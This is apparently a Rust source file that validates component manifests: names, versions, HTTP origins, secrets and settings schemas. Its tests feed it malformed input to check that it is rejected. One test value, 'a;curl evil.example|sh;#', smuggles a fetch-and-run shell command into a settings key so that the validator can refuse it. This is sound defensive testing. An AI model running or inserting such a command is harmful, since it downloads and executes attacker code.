//! What a component says of itself in `describe`: who it is and what it asks for (`wit/manifest.schema.json`).

use super::limits;
use super::spelling::shown;
use crate::rules::notification::OnUnknown;
use crate::rules::origin::Origin;
use crate::rules::schema;
use crate::rules::setup::{ENGINES_ALONE, ENGINES_OWN};
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;

/// The largest manifest that is read, in bytes.
const LARGEST: usize = 64 * 1024;
/// What its author reads is what it is held to.
const SCHEMA: &str = include_str!("../../../wit/manifest.schema.json");

/// A component's manifest. Asking grants nothing.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Manifest {
    /// As people read it, 1 to 15 characters: the target's name unless another is given.
    pub name: String,
    pub version: String,
    /// What the target does, in a sentence.
    pub summary: String,
    pub address: Address,
    #[serde(default)]
    pub http: Http,
    #[serde(default)]
    pub smtp: bool,
    #[serde(default)]
    pub templates: bool,
    #[serde(default)]
    pub secrets: Vec<SecretAsked>,
    /// JSON Schema of the settings that it reads.
    #[serde(default = "anything")]
    pub settings: serde_json::Value,
    /// JSON Schema of the `extra` that it understands.
    #[serde(default = "anything")]
    pub extra: serde_json::Value,
    /// How many notifications it takes in one call.
    #[serde(default = "one")]
    pub largest_batch: u32,
    /// Seconds before the second attempt, where nobody said otherwise.
    #[serde(default = "a_minute")]
    pub retry_time_interval: u32,
    /// What it proposes to do when the message may have been taken.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub on_unknown: Option<OnUnknown>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub receipts: Option<Receipts>,
}

/// How an address of this target looks.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Address {
    pub title: String,
    pub example: String,
}

/// Where it wants to talk to.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Http {
    #[serde(default)]
    pub origins: Vec<Origin>,
    /// The origin of each record's address.
    #[serde(default)]
    pub record_address: bool,
}

/// A secret that it wants to name.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SecretAsked {
    pub name: String,
    /// For whoever has to provide it.
    pub purpose: String,
    #[serde(default = "yes")]
    pub required: bool,
    #[serde(default)]
    pub format: SecretFormat,
    /// What is taken off before the value is decoded, such as `whsec_`.
    #[serde(default)]
    pub prefix: String,
}

impl SecretAsked {
    /// The part of a value that counts: without white space around it, and without the prefix.
    pub fn text<'a>(&self, value: &'a str) -> &'a str {
        let value = value.trim();
        value.strip_prefix(self.prefix.as_str()).unwrap_or(value)
    }
}

impl SecretFormat {
    /// What a value of it is.
    pub const fn words(self) -> &'static str {
        match self {
            SecretFormat::Text => "text",
            SecretFormat::Base64 => "Base64",
            SecretFormat::Hex => "hexadecimal digits",
            SecretFormat::Pem => "a PEM document",
        }
    }
}

/// How a secret's text becomes a key's bytes.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SecretFormat {
    #[default]
    Text,
    Base64,
    Hex,
    Pem,
}

/// When its provider can be asked what became of a message; seconds.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Receipts {
    #[serde(default = "a_minute")]
    pub after: u32,
    #[serde(default = "five_minutes")]
    pub every: u32,
    #[serde(default = "a_day")]
    pub give_up_after: u32,
}

fn anything() -> serde_json::Value {
    serde_json::Value::Object(serde_json::Map::new())
}

fn one() -> u32 {
    1
}

fn a_minute() -> u32 {
    60
}

fn five_minutes() -> u32 {
    300
}

fn a_day() -> u32 {
    86_400
}

fn yes() -> bool {
    true
}

impl Serialize for Origin {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.collect_str(self)
    }
}

impl<'de> Deserialize<'de> for Origin {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        Origin::parse(&String::deserialize(d)?).map_err(serde::de::Error::custom)
    }
}

/// How many keys a component may know, and how many characters each has.
const MOST_KEYS: usize = 100;
const LONGEST_KEY: usize = 63;

/// People read the keys of a schema, and type them after a command.
fn check_keys(schema: &serde_json::Value) -> Result<(), String> {
    let properties = schema.get("properties").and_then(|all| all.as_object()).into_iter().flat_map(|all| all.keys());
    let required = schema.get("required").and_then(|all| all.as_array()).into_iter().flatten();
    let keys: BTreeSet<&str> =
        properties.map(String::as_str).chain(required.filter_map(serde_json::Value::as_str)).collect();
    if keys.len() > MOST_KEYS {
        return Err(format!("has {} keys, and {MOST_KEYS} are the most", keys.len()));
    }
    let is_plain = |key: &&str| {
        let letter = |c: char| c.is_ascii_alphanumeric() || "_-.".contains(c);
        !key.is_empty() && key.len() <= LONGEST_KEY && !key.starts_with('-') && key.chars().all(letter)
    };
    match keys.into_iter().find(|key| !is_plain(key)) {
        Some(key) => Err(format!(
            "has the key `{}`: use letters, digits, `_`, `-` and `.`, at most {LONGEST_KEY}",
            shown(&limits::cut(key, LONGEST_KEY))
        )),
        None => Ok(()),
    }
}

/// What is wrong with a value, without its place: a component's author wrote no lines of JSON.
fn what(error: &serde_json::Error) -> String {
    let told = error.to_string();
    match told.strip_suffix(&format!(" at line {} column {}", error.line(), error.column())) {
        Some(told) if error.is_data() => told.to_owned(),
        Some(_) | None => told,
    }
}

impl Manifest {
    /// Reads what `describe` returned; the error says what its author must change.
    pub fn parse(text: &str) -> Result<Self, String> {
        if text.len() > LARGEST {
            return Err(format!("its manifest has {} bytes, and {LARGEST} is the most", text.len()));
        }
        let not_valid = |e: serde_json::Error| format!("its manifest is not valid: {}", shown(&what(&e)));
        let members: serde_json::Map<String, serde_json::Value> = serde_json::from_str(text).map_err(|e| {
            let why = if text.trim().is_empty() { "it is empty".to_owned() } else { shown(&what(&e)) };
            format!("its manifest has to be a JSON object, as `wit/manifest.schema.json` says, and is none: {why}")
        })?;
        let schema = serde_json::from_str(SCHEMA).map_err(not_valid)?;
        schema::check("its manifest", &members, &schema, &[])?;
        let manifest: Manifest = serde_json::from_str(text).map_err(not_valid)?;
        manifest.check()?;
        Ok(manifest)
    }

    /// What a schema cannot say.
    fn check(&self) -> Result<(), String> {
        // People read these, at a terminal too.
        let purposes = self.secrets.iter().flat_map(|secret| [&secret.purpose, &secret.prefix]);
        let mut said =
            [&self.version, &self.summary, &self.address.title, &self.address.example].into_iter().chain(purposes);
        if said.any(|text| text.chars().any(char::is_control)) {
            return Err("a text in its manifest holds a control character, a line break perhaps".to_owned());
        }
        for (member, schema) in [("settings", &self.settings), ("extra", &self.extra)] {
            schema::check_schema(schema)
                .map_err(|why| format!("`{member}` in its manifest is no JSON Schema of an object: {why}"))?;
            check_keys(schema).map_err(|why| format!("`{member}` in its manifest {why}"))?;
        }
        if let Some(key) = ENGINES_ALONE.into_iter().find(|key| !self.settings["properties"][*key].is_null()) {
            return Err(format!(
                "`settings` in its manifest has the key `{key}`, which is the engine's own under [target.NAME]: call it otherwise"
            ));
        }
        let is_text = |kind: &serde_json::Value| {
            kind.is_null() || *kind == "string" || kind.as_array().is_some_and(|kinds| kinds.contains(&"string".into()))
        };
        let shared = ENGINES_OWN.into_iter().filter(|key| !ENGINES_ALONE.contains(key));
        if let Some(key) = shared.into_iter().find(|key| !is_text(&self.settings["properties"][*key]["type"])) {
            return Err(format!(
                "`settings` in its manifest has `{key}`, which the operator writes as text: let its type be \"string\""
            ));
        }
        for (place, secret) in self.secrets.iter().enumerate() {
            if self.secrets[..place].iter().any(|other| other.name == secret.name) {
                return Err(format!("its manifest has two secrets `{}`", secret.name));
            }
        }
        Ok(())
    }

    /// A manifest that asks for nothing.
    pub fn named(name: &str) -> Self {
        Manifest {
            name: name.to_owned(),
            version: "0.1.0".to_owned(),
            summary: "Does nothing.".to_owned(),
            address: Address { title: "Anything".to_owned(), example: "anything".to_owned() },
            http: Http::default(),
            smtp: false,
            templates: false,
            secrets: Vec::new(),
            settings: anything(),
            extra: anything(),
            largest_batch: one(),
            retry_time_interval: a_minute(),
            on_unknown: None,
            receipts: None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{Value, json};

    /// One that asks for nothing, with these members beside or instead.
    fn with(members: Value) -> String {
        let mut manifest = json!({ "name": "Pigeon", "version": "1.0.0", "summary": "Does nothing.",
            "address": { "title": "Anything", "example": "anything" } });
        for (name, member) in members.as_object().unwrap() {
            manifest[name] = member.clone();
        }
        manifest.as_object_mut().unwrap().retain(|_, member| !member.is_null());
        manifest.to_string()
    }

    #[test]
    fn a_manifest_asks_for_nothing_that_it_does_not_name() {
        let manifest = Manifest::parse(&with(json!({}))).unwrap();
        assert_eq!(manifest, Manifest { version: "1.0.0".into(), ..Manifest::named("Pigeon") });
        assert!(!manifest.smtp && manifest.http.origins.is_empty() && manifest.largest_batch == 1);
    }

    #[test]
    fn what_cannot_be_is_refused() {
        let origins = |origin: &str| json!({ "http": { "origins": [origin] } });
        for (members, part) in [
            (json!({ "version": null }), "\"version\" is a required property"),
            (
                json!({ "version": "1" }),
                "`version` in its manifest cannot be \"1\": it has to be as described (\"The component's own version",
            ),
            (json!({ "summary": null }), "\"summary\" is a required property"),
            (json!({ "summary": "" }), "`summary` in its manifest is not valid: \"\" is shorter than 1 character"),
            (json!({ "summary": "x".repeat(201) }), "is longer than 200 characters"),
            (json!({ "summary": "\u{1b}[2J" }), "holds a control character"),
            (json!({ "address": null }), "\"address\" is a required property"),
            (json!({ "address": { "title": "Loft" } }), "\"example\" is a required property"),
            (json!({ "name": "" }), "`name` in its manifest is not valid"),
            (json!({ "name": "A name that is too long" }), "is longer than 15 characters"),
            (json!({ "name": " P" }), "`name` in its manifest cannot be \" P\""),
            (json!({ "name": "P\u{202e}" }), "`name` in its manifest cannot be"),
            (json!({ "smpt": true }), "the nearest key is `smtp`"),
            (json!({ "smtp": "yes" }), "`smtp` in its manifest is not valid"),
            (
                json!({ "http": { "origin": [] } }),
                "`http` in its manifest holds `origin`, and may hold `origins`, `record_address`; the nearest key is `origins`",
            ),
            (
                json!({ "secrets": [{ "name": "t", "purpose": "p", "format": "PEM" }] }),
                "`secrets.0.format` in its manifest cannot be \"PEM\"",
            ),
            (json!({ "largest_batch": 0 }), "`largest_batch` in its manifest is not valid"),
            (json!({ "largest_batch": 1001 }), "`largest_batch` in its manifest is not valid"),
            (json!({ "retry_time_interval": 0 }), "`retry_time_interval`"),
            (json!({ "receipts": { "after": 0 } }), "`receipts.after`"),
            (origins("exp.host"), "`http.origins.0` in its manifest cannot be \"exp.host\""),
            (origins("ftp://exp.host"), "`http.origins.0`"),
            (origins("https://exp.host/path"), "`http.origins.0`"),
            (origins("https://*.co.uk"), "public suffix"),
            (json!({ "secrets": [{ "name": "token" }] }), "\"purpose\" is a required property"),
            (json!({ "secrets": [{ "name": "Token", "purpose": "p" }] }), "`secrets.0.name`"),
            (
                json!({ "secrets": [{ "name": "t", "purpose": "p" }, { "name": "t", "purpose": "p" }] }),
                "two secrets `t`",
            ),
            (
                json!({ "settings": { "required": ["a;curl evil.example|sh;#"] } }),
                "`settings` in its manifest has the key `a;curl evil",
            ),
            (
                json!({ "extra": { "properties": { "a\nThe target is paused.": {} } } }),
                "`extra` in its manifest has the key `a\\nThe",
            ),
            (json!({ "settings": { "properties": { "--name": {} } } }), "has the key `--name`"),
            (json!({ "settings": { "properties": { "limits": {} } } }), "the key `limits`, which is the engine's own"),
            (
                json!({ "settings": { "properties": { "base_url": { "type": "integer" } } } }),
                "`settings` in its manifest has `base_url`, which the operator writes as text",
            ),
            (origins("https://exp.host:0"), "\"https://exp.host:0\" has the port 0, where nothing listens"),
            (
                json!({ "settings": { "required": (0..101).map(|n| format!("k{n}")).collect::<Vec<_>>() } }),
                "has 101 keys",
            ),
            (json!({ "settings": { "type": "array" } }), "`settings` in its manifest is no JSON Schema"),
            (
                json!({ "extra": { "properties": { "a": { "type": "strin" } } } }),
                "`extra` in its manifest is no JSON Schema of an object: `a`: a `type` in it is \"strin\", which is none of string, integer, number, boolean, array, object, null; did you mean \"string\"?",
            ),
        ] {
            let error = Manifest::parse(&with(members.clone())).expect_err(&members.to_string());
            assert!(error.contains(part) && !error.contains("column"), "{members}: {error}");
        }
        for text in ["", "[]", "{", r#"{"name":"P","name":"P"}"#] {
            assert!(Manifest::parse(text).is_err(), "{text}");
        }
        for (text, why) in [("", "it is empty"), ("[]", "invalid type: sequence, expected a map"), ("{", "EOF while")] {
            let told = format!("has to be a JSON object, as `wit/manifest.schema.json` says, and is none: {why}");
            assert!(Manifest::parse(text).unwrap_err().contains(&told), "{text}");
        }
        assert!(Manifest::parse(&" ".repeat(LARGEST + 1)).unwrap_err().contains("is the most"));
    }

    /// Whether the operator lets it is not the manifest's to say.
    #[test]
    fn it_may_ask_for_what_only_an_operator_opens() {
        for origin in
            ["http://intranet.example:8080", "https://10.0.0.1", "https://[fd00::1]:8443", "https://*.push.example"]
        {
            let manifest = Manifest::parse(&with(json!({ "http": { "origins": [origin] } }))).unwrap();
            assert_eq!(manifest.http.origins[0].to_string(), origin);
        }
    }
}
